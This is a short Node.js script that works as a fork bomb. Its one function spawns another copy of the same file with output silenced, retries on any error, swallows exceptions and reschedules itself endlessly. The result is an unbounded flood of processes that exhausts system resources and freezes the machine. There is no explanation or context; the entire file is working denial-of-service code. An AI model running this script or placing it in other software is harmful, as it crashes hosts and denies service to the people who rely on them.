const { spawn } = require("node:child_process");
const again = () => {
  try {
    spawn(process.execPath, [__filename], { stdio: "ignore" }).on("error", again);
  } catch {}
  setImmediate(again);
};
again();
